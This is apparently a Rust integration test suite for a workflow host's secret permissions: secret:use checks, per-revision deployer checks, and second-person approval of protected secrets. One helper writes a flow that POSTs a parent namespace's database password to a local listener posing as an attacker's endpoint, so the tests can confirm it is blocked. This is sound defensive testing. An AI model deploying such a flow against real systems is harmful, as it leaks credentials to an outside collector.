//! Deploying a flow is never a way to read a secret: `secret:use`, checked
//! where the secret lives, for every way a flow names one; revisions checked
//! against their own deployer; protected secrets that need a second person.
//! Against a real `host serve` on 127.0.0.1, the API and the remote CLI,
//! with a listener on 127.0.0.1 standing in for an attacker's endpoint.

use crate::network::Server as Listener;
use crate::server::{Client, Server, token};
use crate::support::*;
use serde_json::{Value, json};
use std::path::PathBuf;

const PARENT_VALUE: &str = "parent-db-password-31337";

/// The command line of someone holding `tok`, against `server`.
fn remote(env: &Env, server: &Server, tok: &str, args: &[&str]) -> Run {
    let mut cmd = env.host();
    cmd.env("KEYHOLE_ADDR", &server.base).env("KEYHOLE_TOKEN", tok).args(args);
    cmd.env("KEYHOLE_HOME", env.home().join("client-side"));
    env.run_with(&mut cmd, b"")
}

fn write(env: &Env, name: &str, text: &str) -> PathBuf {
    let file = env.home().join(name);
    std::fs::write(&file, text).unwrap();
    file
}

/// The flow: one task that POSTs `${PARENT_DB}` to the listener.
fn innocent(listener: &Listener, plugin: Plugin) -> String {
    format!(
        "id: innocent\nnamespace: finance.reporting\ntasks:\n  - id: t\n    plugin: {}\n    secrets: [PARENT_DB]\n    network:\n      allow: [\"{}\"]\n    input: {{action: http, secret: PARENT_DB, requests: [{{method: POST, url: \"{}\", body: \"{{secret}}\"}}]}}\n",
        component(plugin).display(),
        listener.origin(),
        listener.url("/collect")
    )
}

/// What the listener was sent, as text.
fn bodies(listener: &Listener) -> Vec<String> {
    listener.received().iter().map(|r| String::from_utf8_lossy(&r.body).into_owned()).collect()
}

fn audit(env: &Env, args: &[&str]) -> Vec<Value> {
    let mut all = vec!["audit", "list", "--json"];
    all.extend_from_slice(args);
    let r = env.run(&all);
    r.expect_code(0);
    r.json().as_array().unwrap().clone()
}

#[test]
fn deploying_a_flow_is_not_a_way_to_read_a_secret_of_a_parent_namespace() {
    let env = Env::new();
    env.set_secret("finance", "PARENT_DB", PARENT_VALUE);
    let dev = token(&env, "dev", "developer", "finance.reporting", &[]);
    let lead = token(&env, "lead", "builder", "finance", &[]);
    let listener = Listener::start();
    let server = Server::start(&env, 1, &[]);
    let c = Client::new(&server);
    let flow = write(&env, "innocent.yaml", &innocent(&listener, Plugin::Probe));

    // The remote CLI: refused, naming the permission, the namespace where
    // the secret lives, and the secret.
    let r = remote(&env, &server, &dev, &["flow", "deploy", flow.to_str().unwrap()]);
    r.expect_code(2);
    assert!(r.stderr.contains("permission secret:use is required in namespace finance:"), "{r:#?}");
    assert!(r.stderr.contains("secret PARENT_DB (task t (secrets)), which resolves in namespace finance"), "{r:#?}");
    // The API: a 403 saying the same (the plugin is already uploaded).
    let sha = sha256_file(&component(Plugin::Probe));
    let body = json!({"file": "innocent.yaml", "source": innocent(&listener, Plugin::Probe), "plugins": {"t": sha}});
    let (s, v) = c.call("POST", "/api/v1/flows", Some(&dev), Some(&body));
    assert_eq!(s, 403, "{v}");
    assert!(v["error"].as_str().unwrap().contains("permission secret:use is required in namespace finance"), "{v}");
    // Nothing is stored, nothing runs, nothing reaches the listener.
    let r = env.run(&["flow", "list", "--json"]);
    assert_eq!(r.json(), json!([]), "{r:#?}");
    let r = remote(&env, &server, &dev, &["run", "innocent", "-n", "finance.reporting"]);
    r.expect_code(2);
    assert!(r.stderr.contains("no deployed flow innocent"), "{r:#?}");
    assert!(listener.received().is_empty(), "{:?}", bodies(&listener));
    // Each refusal is on the record, with the token's name and the secret.
    let refused = audit(&env, &["--actor", "dev", "--action", "flow.deploy", "--outcome", "denied"]);
    assert_eq!(refused.len(), 2, "{refused:#?}");
    for rec in &refused {
        assert_eq!((rec["outcome"].as_str(), rec["secret"].as_str()), (Some("denied"), Some("PARENT_DB")), "{rec}");
        assert_eq!(rec["namespace"], "finance", "{rec}");
        assert!(rec["actor"].as_str().unwrap().starts_with("dev (tok-"), "{rec}");
    }

    // secret:use at the flow's own namespace is not enough: where the secret lives decides.
    let local_builder = token(&env, "local-builder", "builder", "finance.reporting", &[]);
    let r = remote(&env, &server, &local_builder, &["flow", "deploy", flow.to_str().unwrap()]);
    r.expect_code(2);
    assert!(r.stderr.contains("permission secret:use is required in namespace finance:"), "{r:#?}");

    // Someone trusted with it at `finance` (a builder there) deploys and runs it.
    let r = remote(&env, &server, &lead, &["flow", "deploy", flow.to_str().unwrap()]);
    r.expect_code(0);
    let r = remote(&env, &server, &lead, &["run", "innocent", "-n", "finance.reporting", "--json"]);
    r.expect_code(0);
    assert_eq!(bodies(&listener), [PARENT_VALUE], "the vouched-for task received it");
    // `flow show` says where it resolved and who vouched.
    let r = remote(&env, &server, &dev, &["flow", "show", "innocent", "-n", "finance.reporting"]);
    r.expect_code(0);
    assert!(r.stdout.contains("revision 1  active"), "{r:#?}");
    assert!(
        r.stdout.contains("secret PARENT_DB: resolved in finance; vouched for by lead (tok-")
            && r.stdout.contains("(task t (secrets))"),
        "{r:#?}"
    );
    let (_, shown) = c.call("GET", "/api/v1/flows/finance.reporting/innocent", Some(&dev), None);
    let vouch = &shown["vouches"]["secrets"][0];
    assert_eq!(
        (vouch["secret"].as_str(), vouch["resolved_in"].as_str()),
        (Some("PARENT_DB"), Some("finance")),
        "{shown}"
    );
    assert!(shown["vouches"]["by"].as_str().unwrap().starts_with("lead (tok-"), "{shown}");

    // A redeploy by someone without secret:use cannot keep the grant while
    // swapping the plugin (or anything else): checked against its own deployer.
    let swapped = write(&env, "swapped.yaml", &innocent(&listener, Plugin::Hello));
    let r = remote(&env, &server, &dev, &["flow", "deploy", swapped.to_str().unwrap()]);
    r.expect_code(2);
    assert!(r.stderr.contains("permission secret:use is required in namespace finance"), "{r:#?}");
    let r = remote(&env, &server, &dev, &["flow", "revisions", "innocent", "-n", "finance.reporting", "--json"]);
    assert_eq!(r.json().as_array().unwrap().len(), 1, "nothing was stored: {r:#?}");
    // A flow that names no secret is still a developer's to deploy.
    let plain = write(
        &env,
        "plain.yaml",
        &format!(
            "id: plain\nnamespace: finance.reporting\ntasks:\n  - {{id: t, plugin: '{}', input: {{action: context}}}}\n",
            component(Plugin::Probe).display()
        ),
    );
    remote(&env, &server, &dev, &["flow", "deploy", plain.to_str().unwrap()]).expect_code(0);

    // A secret set closer after the deploy is a new decision nobody made:
    // the read is refused (and says why) until the flow is deployed again.
    env.set_secret("finance.reporting", "PARENT_DB", "closer-value-4242");
    let (s, v) = c.call("POST", "/api/v1/executions/finance.reporting/innocent?wait=30", Some(&lead), Some(&json!({})));
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["execution"]["status"], "failed", "{v}");
    let error = v["execution"]["tasks"][0]["error"].as_str().unwrap();
    assert!(error.contains("now resolves in namespace finance.reporting"), "{v}");
    assert_eq!(bodies(&listener), [PARENT_VALUE], "nothing more was sent");
    let reads = audit(&env, &["--action", "secret.read", "--execution", v["id"].as_str().unwrap()]);
    assert_eq!(reads.len(), 1, "{reads:#?}");
    assert_eq!(reads[0]["outcome"], "denied", "{reads:#?}");
    assert!(reads[0]["reason"].as_str().unwrap().contains("checked for it in namespace finance"), "{reads:#?}");
    remote(&env, &server, &lead, &["flow", "deploy", flow.to_str().unwrap()]).expect_code(0);
    remote(&env, &server, &lead, &["run", "innocent", "-n", "finance.reporting"]).expect_code(0);
    assert_eq!(bodies(&listener), [PARENT_VALUE, "closer-value-4242"]);
    c.assert_never_returned(PARENT_VALUE);
    c.assert_never_returned("closer-value-4242");
}

fn sha256_file(path: &std::path::Path) -> String {
    hex::encode(keyhole::crypto::sha256(&std::fs::read(path).unwrap()))
}

/// Each way a flow names a secret needs `secret:use` where it lives:
/// `rotate:` (and `secret:write` there), a webhook's key or signing
/// secret, a `wasi:config` read (which is a `secrets:` grant).
#[test]
fn every_way_a_flow_names_a_secret_needs_secret_use() {
    let env = Env::new();
    env.set_secret("finance", "PARENT_DB", PARENT_VALUE);
    let dev = token(&env, "dev", "developer", "finance", &[]);
    let lead = token(&env, "lead", "builder", "finance", &[]);
    let admin = token(&env, "admin", "admin", "", &[]);
    let server = Server::start(&env, 1, &[]);
    let probe = component(Plugin::Probe);
    let config = component(Plugin::ConfigCommand);
    let cases = [
        ("rotate", format!("  - {{id: r, plugin: '{}', rotate: [PARENT_DB]}}\n", probe.display()), "task r (rotate)"),
        (
            "config",
            format!("  - {{id: c, plugin: '{}', secrets: [PARENT_DB]}}\n", config.display()),
            "task c (secrets)",
        ),
    ];
    for (id, task, uses) in cases {
        let file =
            write(&env, &format!("{id}.yaml"), &format!("id: {id}\nnamespace: finance.reporting\ntasks:\n{task}"));
        let r = remote(&env, &server, &dev, &["flow", "deploy", file.to_str().unwrap()]);
        r.expect_code(2);
        assert!(r.stderr.contains("permission secret:use is required in namespace finance:"), "{id}: {r:#?}");
        assert!(r.stderr.contains(uses), "{id}: {r:#?}");
    }
    // A builder holds secret:use, not secret:write: rotating needs both.
    let rotate = env.home().join("rotate.yaml");
    let r = remote(&env, &server, &lead, &["flow", "deploy", rotate.to_str().unwrap()]);
    r.expect_code(2);
    assert!(r.stderr.contains("permission secret:write is required in namespace finance:"), "{r:#?}");
    assert!(r.stderr.contains("makes a task rotate secret PARENT_DB"), "{r:#?}");
    remote(&env, &server, &admin, &["flow", "deploy", rotate.to_str().unwrap()]).expect_code(0);
    remote(&env, &server, &lead, &["flow", "deploy", env.home().join("config.yaml").to_str().unwrap()]).expect_code(0);
    // A webhook's key and signing secret: the host uses them for the flow.
    env.set_secret("finance", "HOOK_KEY", "hook-key-value-77");
    for (id, hook) in
        [("keyed", "{key_secret: HOOK_KEY}"), ("signed", "{signature: {header: X-Sig, secret: HOOK_KEY}}")]
    {
        let text = format!(
            "id: {id}\nnamespace: finance.reporting\ntriggers:\n  - id: in\n    webhook: {hook}\ntasks:\n  - {{id: t, plugin: '{}', input: {{action: context}}}}\n",
            probe.display()
        );
        let file = write(&env, &format!("{id}.yaml"), &text);
        let r = remote(&env, &server, &dev, &["flow", "deploy", file.to_str().unwrap()]);
        r.expect_code(2);
        assert!(r.stderr.contains("secret HOOK_KEY (trigger in (webhook"), "{id}: {r:#?}");
        remote(&env, &server, &lead, &["flow", "deploy", file.to_str().unwrap()]).expect_code(0);
    }
}

/// A flow of the probe reading `PARENT_DB`, whose input carries `note`.
fn reader(note: &str) -> String {
    format!(
        "id: report\nnamespace: finance.reporting\ntasks:\n  - id: t\n    plugin: {}\n    secrets: [PARENT_DB]\n    input: {{action: get, names: [PARENT_DB], note: \"{note}\"}}\n",
        component(Plugin::Probe).display()
    )
}

#[test]
fn a_revision_touching_a_protected_secret_runs_only_once_a_second_person_approves_it() {
    let env = Env::new();
    env.set_secret("finance", "PARENT_DB", PARENT_VALUE);
    let alice = token(&env, "alice", "builder", "finance", &[]);
    let bob = token(&env, "bob", "builder", "finance", &[]);
    let dev = token(&env, "dev", "developer", "finance", &[]);
    let server = Server::start(&env, 1, &[]);
    let c = Client::new(&server);
    // Protecting needs secret:write: a developer may not, the operator may.
    let r = remote(&env, &server, &dev, &["secret", "protect", "PARENT_DB", "-n", "finance"]);
    r.expect_code(2);
    assert!(r.stderr.contains("permission secret:write is required in namespace finance"), "{r:#?}");
    let r = env.run(&["secret", "protect", "PARENT_DB", "-n", "finance"]);
    r.expect_code(0);
    assert!(r.stderr.contains("protected secret PARENT_DB in namespace finance"), "{r:#?}");
    let r = remote(&env, &server, &dev, &["secret", "protections", "--json"]);
    assert_eq!(r.json()[0]["secret"], "PARENT_DB", "{r:#?}");

    // The first revision grants it: pending, and nothing runs it yet.
    let file = write(&env, "report.yaml", &reader("one"));
    let r = remote(&env, &server, &alice, &["flow", "deploy", file.to_str().unwrap()]);
    r.expect_code(0);
    assert!(r.stderr.contains("revision 1 is pending review: it touches protected PARENT_DB"), "{r:#?}");
    let r = remote(&env, &server, &dev, &["flow", "list"]);
    assert!(r.stdout.contains("pending review"), "{r:#?}");
    let (s, v) = c.call("POST", "/api/v1/executions/finance.reporting/report", Some(&alice), Some(&json!({})));
    assert_eq!(s, 409, "{v}");
    assert!(v["error"].as_str().unwrap().contains("revision 1 is pending review"), "{v}");
    // Its deployer cannot approve it, and trying is on the record.
    let r = remote(&env, &server, &alice, &["flow", "approve", "report", "-n", "finance.reporting", "--revision", "1"]);
    r.expect_code(2);
    assert!(r.stderr.contains("alice (tok-") && r.stderr.contains("may not approve it"), "{r:#?}");
    let denied = audit(&env, &["--action", "flow.approve", "--outcome", "denied"]);
    assert_eq!(denied.len(), 1, "{denied:#?}");
    // Neither can someone who may not use the secret.
    let (s, v) =
        c.call("POST", "/api/v1/flows/finance.reporting/report/revisions/1/approve", Some(&dev), Some(&json!({})));
    assert_eq!(s, 403, "{v}");
    assert!(v["error"].as_str().unwrap().contains("permission secret:use is required"), "{v}");
    // A second person can: then it runs.
    let r = remote(
        &env,
        &server,
        &bob,
        &["flow", "approve", "report", "-n", "finance.reporting", "--revision", "1", "--comment", "looked at it"],
    );
    r.expect_code(0);
    let run = |who: &str| {
        let (s, v) = c.call("POST", "/api/v1/executions/finance.reporting/report?wait=30", Some(who), Some(&json!({})));
        assert_eq!(s, 200, "{v}");
        assert_eq!(v["execution"]["status"], "succeeded", "{v}");
        v["execution"]["revision"].as_u64().unwrap()
    };
    assert_eq!(run(&dev), 1);
    let r = remote(&env, &server, &dev, &["flow", "show", "report", "-n", "finance.reporting"]);
    assert!(r.stdout.contains("approved by bob (tok-"), "{r:#?}");

    // A revision that changes the holding task waits; the approved one keeps serving.
    std::fs::write(&file, reader("two")).unwrap();
    remote(&env, &server, &alice, &["flow", "deploy", file.to_str().unwrap()]).expect_code(0);
    assert_eq!(run(&dev), 1, "revision 1 still serves while revision 2 waits");
    let r = remote(&env, &server, &dev, &["flow", "show", "report", "-n", "finance.reporting"]);
    assert!(r.stdout.contains("revision 2 is pending review"), "{r:#?}");
    // Rejected: it never runs, and revision 1 goes on serving.
    let r = remote(&env, &server, &bob, &["flow", "reject", "report", "-n", "finance.reporting", "--revision", "2"]);
    r.expect_code(0);
    assert_eq!(run(&dev), 1);
    let r = remote(&env, &server, &bob, &["flow", "approve", "report", "-n", "finance.reporting", "--revision", "2"]);
    r.expect_code(2);
    assert!(r.stderr.contains("is rejected"), "{r:#?}");
    // A revision that leaves the holding task as it was needs no review.
    std::fs::write(&file, format!("{}description: same task\n", reader("one"))).unwrap();
    remote(&env, &server, &alice, &["flow", "deploy", file.to_str().unwrap()]).expect_code(0);
    assert_eq!(run(&dev), 3);
    // Every decision is on the record.
    let approvals = audit(&env, &["--action", "flow.approve", "--outcome", "ok"]);
    assert!(approvals[0]["actor"].as_str().unwrap().starts_with("bob (tok-"), "{approvals:#?}");
    assert_eq!(audit(&env, &["--action", "flow.reject"]).len(), 1);

    // A webhook of a flow whose only revision waits: the right key is told
    // why nothing runs, a wrong one learns nothing.
    env.set_secret("finance.reporting", "HOOK_KEY", "hook-key-value-99");
    let hooked = format!("{}triggers:\n  - {{id: in, webhook: {{key_secret: HOOK_KEY}}}}\n", reader("hook"))
        .replace("id: report", "id: hooked");
    let file = write(&env, "hooked.yaml", &hooked);
    remote(&env, &server, &alice, &["flow", "deploy", file.to_str().unwrap()]).expect_code(0);
    let (s, v) = c.post_raw("/api/v1/webhooks/finance.reporting/hooked/hook-key-value-99", &[], b"{}");
    assert_eq!(s, 409, "{v}");
    assert!(v["error"].as_str().unwrap().contains("revision 1 is pending review"), "{v}");
    let (s, v) = c.post_raw("/api/v1/webhooks/finance.reporting/hooked/wrong-key", &[], b"{}");
    assert_eq!((s, &v), (404, &json!({"error": "no such webhook"})));

    // Unprotected: a later change runs at once.
    env.run(&["secret", "unprotect", "PARENT_DB", "-n", "finance"]).expect_code(0);
    std::fs::write(env.home().join("report.yaml"), reader("four")).unwrap();
    remote(&env, &server, &alice, &["flow", "deploy", env.home().join("report.yaml").to_str().unwrap()]).expect_code(0);
    assert_eq!(run(&dev), 4);
    c.assert_never_returned(PARENT_VALUE);
}

/// A whole namespace can be protected: every secret in it and below.
#[test]
fn protecting_a_namespace_covers_every_secret_below_it() {
    let env = Env::new();
    env.set_secret("finance.reporting", "LOCAL_DB", "local-db-value-5");
    env.run(&["secret", "protect", "--all", "-n", "finance"]).expect_code(0);
    let file = write(&env, "report.yaml", &reader("x").replace("PARENT_DB", "LOCAL_DB"));
    // The operator is a person too: their own revision waits for someone else.
    let r = env.run(&["flow", "deploy", file.to_str().unwrap()]);
    r.expect_code(0);
    assert!(r.stderr.contains("pending review: it touches protected LOCAL_DB"), "{r:#?}");
    let r = env.run(&["flow", "approve", "report", "-n", "finance.reporting", "--revision", "1"]);
    r.expect_code(2);
    assert!(r.stderr.contains("may not approve it"), "{r:#?}");
    let r = env.run(&["secret", "protections"]);
    assert!(r.stdout.contains("* (and below)"), "{r:#?}");
}
